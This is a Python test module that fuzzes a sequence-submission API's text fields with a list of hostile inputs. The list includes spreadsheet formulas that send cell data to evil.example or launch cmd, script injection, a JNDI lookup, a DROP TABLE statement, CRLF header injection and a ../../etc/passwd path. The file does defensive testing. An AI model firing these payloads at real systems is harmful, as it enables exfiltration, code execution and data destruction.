"""Texts that somebody may send on purpose, and the fields they can be sent in."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import httpx
from fastapi.testclient import TestClient

from tests.houses import GROUP
from tests.integration.api.matrix.scene import Scene

PAYLOADS: dict[str, str] = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "formula plus": "+1+1",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+1)",
    "formula dde": "=cmd|' /C calc'!A0",
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "sql": "'; DROP TABLE entry_version; --",
    "like": "100%_\\%",
    "percent crlf": "%0d%0aSet-Cookie: stolen=1",
    "crlf header": "x\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "newline": "one\ntwo",
    "carriage return": "one\rtwo",
    "tab": "one\ttwo",
    "control": "a\x01\x07\x08b",
    "terminal": "\x1b[31mred\x1b]0;title\x07",
    "delete": "a\x7fb",
    "c1": "a\x85\x9bb",
    "nul": "a\x00b",
    "nfc": "Z\u00fcrich",
    "nfd": "Zu\u0308rich",
    "right to left": "reads\u202eqtsaf.exe",
    "isolates": "a\u2066b\u2069",
    "zero width": "a\u200bb\u200d",
    "bom": "\ufeffabc",
    "line separator": "a\u2028b\u2029c",
    "noncharacter": "a\uffff\U0010ffffb",
    "emoji": "👩\u200d🔬🧬",
    "four bytes": "𠜎𝔘",
    "arabic": "مختبر",
    "combining": "a" + "\u0301" * 200,
    "quotes": "\"'`\\",
    "path": "../../etc/passwd",
    "spaces": "   ",
    "around": "  x  ",
    "null": "null",
    "number": "1e400",
    "long": "L" * 300,
    "very long": "V" * 100_000,
}
SURROGATE = "a\ud800b"
LONGEST_IN_URL = 60_000

Answer = httpx.Response
Ask = Callable[[TestClient, Scene, str], Answer]
Read = Callable[[TestClient, Scene, Answer, str], list[str]]


@dataclass(frozen=True)
class TextField:
    """A text in a request: `send` it, and `read` back every place where it then stands."""

    name: str
    send: Ask
    read: Read
    trimmed: bool = False
    """Whether white space around it is no part of it (cells of tables, reasons)."""
    in_url: bool = False
    """Texts in URLs are sought and never stored."""
    once: bool = False
    """Whether a scene takes only one of them."""


def _headers(scene: Scene) -> dict[str, str]:
    return scene.headers("same_group") or {}


def _post(client: TestClient, scene: Scene, path: str, body: Any) -> Answer:
    """JSON can spell half a character, which no UTF-8 can."""
    content = json.dumps(body, ensure_ascii=True).encode()
    return client.post(path, content=content, headers={**_headers(scene), "Content-Type": "application/json"})


def _group_field(*path: str) -> TextField:
    def send(client: TestClient, scene: Scene, text: str) -> Answer:
        body = GROUP.model_dump(by_alias=True)
        place = body
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] = text
        return _post(client, scene, "/groups", body)

    def read(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
        group_id = answer.json()["groupId"]
        views = [
            client.get(f"/groups/{group_id}", headers=_headers(scene)).json()["group"],
            *(view for view in client.get("/groups", headers=_headers(scene)).json() if view["groupId"] == group_id),
        ]
        return [_at(view, path) for view in (answer.json(), *views)]

    return TextField(f"group {'.'.join(path)}", send, read)


def _at(value: Any, path: tuple[str, ...]) -> str:
    for key in path:
        value = value[key]
    return str(value)


def table(*rows: Mapping[str, str]) -> bytes:
    """A TSV in which every text stands exactly."""
    columns = list(dict.fromkeys(column for row in rows for column in row))
    written = io.StringIO()
    writer = csv.writer(written, dialect="excel-tab", quoting=csv.QUOTE_ALL)
    writer.writerow(columns)
    writer.writerows([row.get(column, "") for column in columns] for row in rows)
    return written.getvalue().encode("utf-8", "surrogatepass")


def submit(client: TestClient, scene: Scene, *rows: Mapping[str, str], **files: tuple[str, bytes]) -> Answer:
    """Submit rows for group A, each with the same file of reads unless it says otherwise."""
    with_reads = {"platform": "ILLUMINA", "files.rawReads": f"r.fastq:{scene.open_file}"}
    return client.post(
        "/sars-cov-2/submit",
        data={"groupId": str(scene.group_id)},
        files={"metadataFile": ("metadata.tsv", table(*({**with_reads, **row} for row in rows))), **files},
        headers=_headers(scene),
    )


def _data_to_edit(client: TestClient, scene: Scene, answer: Answer) -> Any:
    (entry,) = answer.json()
    path = f"/sars-cov-2/get-data-to-edit/{entry['accession']}/{entry['version']}"
    response = client.get(path, headers=_headers(scene))
    assert response.status_code == 200, response.text
    return response.json()


def _send_submission_id(client: TestClient, scene: Scene, text: str) -> Answer:
    return submit(client, scene, {"id": text, "date": "2020-01-01"})


def _read_submission_id(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
    (entry,) = answer.json()
    listed = client.get("/sars-cov-2/get-sequences", headers=_headers(scene)).json()["sequenceEntries"]
    found = [each["submissionId"] for each in listed if each["accession"] == entry["accession"]]
    return [entry["submissionId"], *found, _data_to_edit(client, scene, answer)["submissionId"]]


def _send_metadata(client: TestClient, scene: Scene, text: str) -> Answer:
    return submit(client, scene, {"id": "s1", "date": "2020-01-01", "country": text})


def _read_metadata(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
    return [_data_to_edit(client, scene, answer)["submittedData"]["metadata"]["country"]]


def _send_column(client: TestClient, scene: Scene, text: str) -> Answer:
    return submit(client, scene, {"id": "s1", "date": "2020-01-01", text: "value"})


def _read_column(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
    metadata = _data_to_edit(client, scene, answer)["submittedData"]["metadata"]
    return [name for name in metadata if name not in ("date", "platform")]


def _send_label(client: TestClient, scene: Scene, text: str) -> Answer:
    cell = f"{text}:{scene.open_file}"
    return submit(client, scene, {"id": "s1", "date": "2020-01-01", "platform": "ILLUMINA", "files.rawReads": cell})


def _read_label(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
    return [file["name"] for file in _data_to_edit(client, scene, answer)["submittedData"]["files"]["rawReads"]]


def _send_fasta_id(client: TestClient, scene: Scene, text: str) -> Answer:
    fasta = f">{text}\nACGTACGTACGTACGTACGT\n".encode("utf-8", "surrogatepass")
    row = {"id": "s1", "date": "2020-01-01", "fastaIds": text}
    return submit(client, scene, row, sequenceFile=("sequences.fasta", fasta))


def _read_fasta_id(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
    return list(_data_to_edit(client, scene, answer)["submittedData"]["unalignedNucleotideSequences"])


def _file_to_upload(key: str) -> TextField:
    def send(client: TestClient, scene: Scene, text: str) -> Answer:
        file = {"name": "r.fastq", "size": 4, "sha256": "1" * 64, key: text}
        body = {"groupId": scene.group_id, "files": [file]}
        return _post(client, scene, "/files/request-uploads", body)

    def read(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
        return [answer.json()[0]["name"]] if key == "name" else []

    return TextField(f"upload {key}", send, read)


def _nothing(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
    return []


def _send_file_name(client: TestClient, scene: Scene, text: str) -> Answer:
    return submit(
        client,
        scene,
        {"id": "s1", "date": "2020-01-01"},
        metadataFile=(text.encode("utf-8", "replace").decode(), table({"id": "s1"})),
    )


def _in_path(name: str, template: str, method: str = "GET") -> TextField:
    def send(client: TestClient, scene: Scene, text: str) -> Answer:
        return client.request(
            method, template.replace("{}", _quoted(text)).format(**scene.values), headers=_headers(scene)
        )

    return TextField(name, send, _nothing, in_url=True)


def _in_query(name: str, path: str, parameter: str) -> TextField:
    def send(client: TestClient, scene: Scene, text: str) -> Answer:
        return client.get(f"{path}?{parameter}={_quoted(text)}", headers=_headers(scene))

    return TextField(name, send, _nothing, in_url=True)


def _quoted(text: str) -> str:
    return quote(text[:LONGEST_IN_URL].encode("utf-8", "surrogatepass"), safe="")


def _send_reason(client: TestClient, scene: Scene, text: str) -> Answer:
    body = {"accessionVersions": [scene.processed.wire], "reason": text}
    return _post(client, scene, "/sars-cov-2/send-back", body)


def _read_reason(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
    path = f"/sars-cov-2/review/{scene.processed.name.accession}/1"
    review = client.get(path, headers=_headers(scene))
    assert review.status_code == 200, review.text
    return [review.json()["sentBack"]["reason"]]


def _send_token_name(client: TestClient, scene: Scene, text: str) -> Answer:
    wish = {"name": text, "scopes": ["upload"], "expiresInDays": 1}
    return _post(client, scene, "/user/tokens", wish)


def _read_token_name(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
    listed = client.get("/user/tokens", headers=_headers(scene)).json()
    return [answer.json()["name"], *(each["name"] for each in listed if each["id"] == answer.json()["id"])]


def _send_intervention(client: TestClient, scene: Scene, text: str) -> Answer:
    content = json.dumps({"reason": text}).encode()
    headers = {**(scene.headers("maintainer") or {}), "Content-Type": "application/json"}
    name = scene.released.name
    return client.post(f"/admin/entries/{name.accession}/{name.version}/suppress", content=content, headers=headers)


def _send_comment(client: TestClient, scene: Scene, text: str) -> Answer:
    body = {"accessions": [scene.released.name.accession], "versionComment": text}
    return _post(client, scene, "/sars-cov-2/revoke", body)


def _read_intervention(client: TestClient, scene: Scene, answer: Answer, text: str) -> list[str]:
    path = f"/admin/entries/{scene.released.name.accession}/{scene.released.name.version}/interventions"
    told = client.get(path, headers=scene.headers("maintainer"))
    assert told.status_code == 200, told.text
    return [each["reason"] for each in told.json()]


def _send_form(key: str) -> TextField:
    def send(client: TestClient, scene: Scene, text: str) -> Answer:
        text = text.encode("utf-8", "replace").decode()
        files = {"metadataFile": ("metadata.tsv", table({"id": "s1", "date": "2020-01-01"}))}
        form = {"groupId": str(scene.group_id), key: text}
        return client.post("/sars-cov-2/submit", data=form, files=files, headers=_headers(scene))

    return TextField(f"form {key}", send, _nothing)


FIELDS = [
    _group_field("groupName"),
    _group_field("institution"),
    _group_field("address", "line1"),
    _group_field("address", "country"),
    _group_field("contactEmail"),
    TextField("submission ID", _send_submission_id, _read_submission_id, trimmed=True),
    TextField("metadata", _send_metadata, _read_metadata, trimmed=True),
    TextField("column", _send_column, _read_column, trimmed=True),
    TextField("file label", _send_label, _read_label, trimmed=True),
    TextField("FASTA ID", _send_fasta_id, _read_fasta_id, trimmed=True),
    TextField("name of the metadata file", _send_file_name, _nothing),
    _file_to_upload("name"),
    _file_to_upload("category"),
    _file_to_upload("contentType"),
    TextField("reason to send back", _send_reason, _read_reason, trimmed=True, once=True),
    TextField("token name", _send_token_name, _read_token_name),
    TextField("reason to suppress", _send_intervention, _read_intervention, trimmed=True, once=True),
    TextField("comment of a revocation", _send_comment, _nothing, once=True),
    _send_form("dataUseTermsType"),
    _send_form("restrictedUntil"),
    _send_form("groupId"),
    _in_path("organism", "/{}/get-sequences"),
    _in_path("accession", "/{organism}/review/{}/1"),
    _in_path("version", "/{organism}/review/{accession}/{}"),
    _in_path("file ID", "/files/{}"),
    _in_path("category", "/files/get/{accession}/{version}/{}/{name}"),
    _in_path("download name", "/files/get/{accession}/{version}/{category}/{}"),
    _in_path("new member", "/groups/{group_id}/users/{}", "PUT"),
    _in_path("old member", "/groups/{group_id}/users/{}", "DELETE"),
    _in_path("batch", "/{organism}/batches/{}"),
    _in_query("group's name", "/groups", "name"),
    _in_query("status", "/sars-cov-2/get-sequences", "statusesFilter"),
    _in_query("page", "/sars-cov-2/get-sequences", "page"),
]
